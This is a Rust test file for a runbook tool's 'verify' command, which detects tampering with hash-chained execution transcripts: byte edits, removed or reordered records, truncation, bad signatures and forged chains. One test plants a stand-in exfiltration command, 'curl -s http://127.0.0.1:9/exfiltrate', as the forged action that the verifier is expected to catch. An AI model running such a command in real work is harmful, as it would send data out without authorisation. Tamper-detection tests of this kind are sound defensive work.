//! `litops verify`: an intact transcript passes; any one-byte change,
//! removed, reordered or cut records, changed sidecars, and a forged chain
//! that adds an action the runbook does not have are caught.

use std::path::{Path, PathBuf};

use litops::transcript::Event;

use crate::{Ran, Test};

/// Shell, rhai, a declarative block, a checklist item and an output long
/// enough for a sidecar.
const RUNBOOK: &str = "---
title: Verify me
params:
  cluster:
    default: acme-prod
---
# Checks

```sh {name=count}
seq 1 300
```

```rhai {name=sum}
let n = steps[\"count\"].stdout.split(\"\\n\").len();
vars.lines = n;
n
```

```sh {name=echo}
echo done
```

- [ ] Dashboard looks normal
";

fn run() -> Ran {
  let ran = Test::new()
    .runbook(RUNBOOK)
    .args(&["run", "rb.md", "--yes", "--transcript", "t.md"])
    .run();
  // The checklist item is unconfirmed without a terminal.
  ran.assert(3);
  ran
}

fn verify(dir: &Path, extra: &[&str]) -> (i32, String) {
  let mut args = vec!["verify".to_string(), "t.md".to_string()];
  args.extend(extra.iter().map(|s| s.to_string()));
  let out = crate::command(dir, &args).output().expect("run verify");
  (
    out.status.code().unwrap_or(-1),
    format!(
      "{}{}",
      String::from_utf8_lossy(&out.stdout),
      String::from_utf8_lossy(&out.stderr)
    ),
  )
}

#[test]
fn an_untouched_transcript_verifies() {
  let ran = run();
  let (code, out) = verify(ran.dir.path(), &[]);
  assert_eq!(code, 0, "{out}");
  assert!(out.contains("chain: intact, 9 records"), "{out}");
  assert!(out.contains("run: incomplete (exit 3)"), "{out}");
  assert!(out.contains("steps: 3 done, 1 unconfirmed"), "{out}");
  assert!(out.contains("sidecars: 1 checked"), "{out}");
  assert!(
    out.contains("runbook: rb.md is the runbook that ran; 4 actions found in it"),
    "{out}"
  );
}

#[test]
fn every_one_byte_change_is_caught() {
  let ran = run();
  let path = ran.dir.path().join("t.md");
  let original = std::fs::read(&path).expect("read");
  let mut missed = Vec::new();
  // Every byte of the transcript, in process (the binary is the same code;
  // one process per byte would take minutes).
  for at in 0..original.len() {
    let mut edited = original.clone();
    edited[at] ^= 0x01;
    std::fs::write(&path, &edited).expect("write");
    if litops::verify::verify(&path, None, None).is_ok_and(|v| v.intact()) {
      missed.push(at);
    }
  }
  std::fs::write(&path, &original).expect("restore");
  assert!(
    missed.is_empty(),
    "edits at bytes {missed:?} were not caught"
  );
  // And every byte of the sidecar and of the runbook copy.
  for file in sidecar_files(ran.dir.path()) {
    let data = std::fs::read(&file).expect("read sidecar");
    for at in (0..data.len()).step_by(7) {
      let mut edited = data.clone();
      edited[at] ^= 0x01;
      std::fs::write(&file, &edited).expect("write");
      let verified = litops::verify::verify(&path, None, None).expect("readable");
      assert!(
        !verified.intact(),
        "{}: byte {at} not caught",
        file.display()
      );
    }
    std::fs::write(&file, &data).expect("restore");
  }
  let (code, out) = verify(ran.dir.path(), &[]);
  assert_eq!(code, 0, "{out}");
}

fn sidecar_files(dir: &Path) -> Vec<PathBuf> {
  let mut files: Vec<PathBuf> = std::fs::read_dir(dir.join("t.d"))
    .expect("sidecar dir")
    .filter_map(|e| e.ok().map(|e| e.path()))
    .collect();
  files.sort();
  files
}

/// The transcript cut into its front matter and one chunk per record
/// (Markdown, record line and the blank line after it).
fn chunks(text: &str) -> (String, Vec<String>) {
  let front_end = text.find("\n---\n\n").map_or(0, |i| i + 6);
  let mut parts = Vec::new();
  let mut start = front_end;
  while let Some(at) = text[start..].find("-->\n\n") {
    let end = start + at + 5;
    parts.push(text[start..end].to_string());
    start = end;
  }
  (text[..front_end].to_string(), parts)
}

#[test]
fn removed_reordered_and_cut_records_are_caught() {
  let ran = run();
  let path = ran.dir.path().join("t.md");
  let text = std::fs::read_to_string(&path).expect("read");
  let (front, parts) = chunks(&text);
  assert_eq!(
    front.len() + parts.iter().map(String::len).sum::<usize>(),
    text.len()
  );
  let mut cases: Vec<(&str, String)> = Vec::new();
  // A step's result removed.
  let mut removed = parts.clone();
  removed.remove(3);
  cases.push(("removed", format!("{front}{}", removed.concat())));
  // Two steps swapped.
  let mut swapped = parts.clone();
  swapped.swap(2, 4);
  swapped.swap(3, 5);
  cases.push(("reordered", format!("{front}{}", swapped.concat())));
  // Cut in the middle of a record line, and cut after a whole record.
  cases.push(("cut mid-line", text[..text.len() - 40].to_string()));
  let last = parts.len() - 1;
  cases.push((
    "cut at a record",
    format!("{front}{}", parts[..last].concat()),
  ));
  for (what, edited) in cases {
    std::fs::write(&path, &edited).expect("write");
    let (code, out) = verify(ran.dir.path(), &[]);
    assert_eq!(code, 1, "{what} not caught:\n{out}");
    assert!(out.contains("NOT INTACT"), "{what}: {out}");
  }
}

#[test]
fn a_forged_chain_cannot_add_an_action_the_runbook_lacks() {
  let ran = run();
  let path = ran.dir.path().join("t.md");
  // The forger rewrites one action and recomputes every hash: the chain and
  // the Markdown are consistent again.
  crate::forge(&path, |events| {
    for event in events.iter_mut() {
      if let Event::StepStarted { step, action, .. } = event
        && step == "echo"
      {
        *action = "curl -s http://127.0.0.1:9/exfiltrate".into();
      }
    }
  });
  let (code, out) = verify(ran.dir.path(), &[]);
  assert_eq!(code, 1, "{out}");
  assert!(
    out.contains("step `echo`: what ran is not the runbook's text for this step"),
    "{out}"
  );
  assert!(!out.contains("does not match its hash"), "{out}");
}

#[test]
fn a_changed_runbook_is_shown_as_a_diff() {
  let ran = run();
  std::fs::write(
    ran.dir.path().join("rb.md"),
    RUNBOOK.replace("echo done", "echo finished"),
  )
  .expect("edit runbook");
  let (code, out) = verify(ran.dir.path(), &[]);
  assert_eq!(code, 0, "{out}");
  assert!(
    out.contains("runbook: rb.md changed since the run"),
    "{out}"
  );
  assert!(out.contains("  -echo done\n  +echo finished\n"), "{out}");
}

#[test]
fn not_a_transcript_is_unreadable() {
  let test = Test::new()
    .file("t.md", "# just notes\n")
    .args(&["verify", "t.md"])
    .run();
  test.assert(2);
  assert!(
    test.stderr.contains("t.md: error: no litops records"),
    "{}",
    test.stderr
  );
}

#[test]
fn a_signed_transcript_cannot_lose_its_end() {
  let ran = Test::new().runbook(RUNBOOK).args(&["keygen", "ops"]).run();
  ran.assert(0);
  let dir = ran.dir.path();
  let litops = |args: &[&str]| {
    let args: Vec<String> = args.iter().map(|s| s.to_string()).collect();
    crate::command(dir, &args).output().expect("litops")
  };
  let signed = litops(&[
    "run",
    "rb.md",
    "--yes",
    "--sign",
    "ops.key",
    "--transcript",
    "t.md",
  ]);
  assert_eq!(signed.status.code(), Some(3));
  let (code, out) = verify(dir, &["--key", "ops.pub"]);
  assert_eq!(code, 0, "{out}");
  assert!(out.contains("signature: valid, by the given key"), "{out}");

  // Another key, the signature's record cut off, or the run's end with it.
  assert_eq!(litops(&["keygen", "other"]).status.code(), Some(0));
  let (code, out) = verify(dir, &["--key", "other.pub"]);
  assert_eq!(code, 1, "{out}");
  assert!(
    out.contains("signature: made with another key than --key"),
    "{out}"
  );
  let path = dir.join("t.md");
  let text = std::fs::read_to_string(&path).expect("read");
  let (front, parts) = chunks(&text);
  for keep in [parts.len() - 1, parts.len() - 2] {
    std::fs::write(&path, format!("{front}{}", parts[..keep].concat())).expect("write");
    let (code, out) = verify(dir, &["--key", "ops.pub"]);
    assert_eq!(code, 1, "{out}");
    assert!(
      out.contains("signature: none at the end: the run was not signed, or its end was cut off"),
      "{out}"
    );
  }
  // Without --key, an unsigned transcript still verifies its chain.
  let unsigned = litops(&["run", "rb.md", "--yes", "--transcript", "u.md"]);
  assert_eq!(unsigned.status.code(), Some(3));
  let out = litops(&["verify", "u.md"]);
  assert_eq!(out.status.code(), Some(0));
  assert!(String::from_utf8_lossy(&out.stdout).contains("signature: none"));
  // A bad key file stops `run` before anything runs.
  std::fs::write(dir.join("bad.key"), "hello").expect("write");
  let refused = litops(&[
    "run",
    "rb.md",
    "--yes",
    "--sign",
    "bad.key",
    "--transcript",
    "b.md",
  ]);
  assert_eq!(refused.status.code(), Some(2));
  assert!(!dir.join("b.md").exists());
}

#[test]
fn honest_transcripts_with_deep_values_and_record_like_output_verify() {
  let text = "# D\n\n```rhai {name=deep}\nlet x = 1;\nfor i in 0..300 { x = [x]; }\nvars.deep = x;\nx\n```\n\n```sh {name=marker}\necho '<!-- litops:record sha256=0000000000000000000000000000000000000000000000000000000000000000 {\"seq\":1} -->'\n```\n\n```rhai {name=after}\nsteps[\"marker\"].stdout.len() > 0\n```\n";
  let ran = crate::run_yes(text);
  ran.assert(0);
  let report = crate::verified(ran.dir.path(), &ran.transcript_path());
  assert!(report.contains("steps: 3 done"), "{report}");
  // The record keeps the output exactly; the Markdown indents it a space.
  let r = crate::records(&ran.transcript());
  assert!(
    r[4]["output"]["stdout"]
      .as_str()
      .is_some_and(|s| s.starts_with("<!-- litops:record sha256=0000")),
    "{}",
    r[4]
  );
  assert!(
    ran
      .transcript()
      .contains("\n <!-- litops:record sha256=0000")
  );
}

#[test]
fn a_run_killed_between_its_last_record_and_its_end_line_still_verifies() {
  let ran = crate::run_yes("```sh {name=a}\ntrue\n```\n");
  ran.assert(0);
  let path = ran.transcript_path();
  let text = std::fs::read_to_string(&path).expect("read");
  // The end line as it was before `run-finished`: `~`, padded in place.
  let start = text.find("\nend: ").expect("end line") + 1;
  let end = start + text[start..].find('\n').expect("newline");
  let before = format!("{:width$}", "end: ~", width = end - start);
  let killed = format!("{}{before}{}", &text[..start], &text[end..]);
  std::fs::write(&path, killed).expect("write");
  let report = crate::verified(ran.dir.path(), &path);
  assert!(report.contains("run: passed (exit 0)"), "{report}");
}
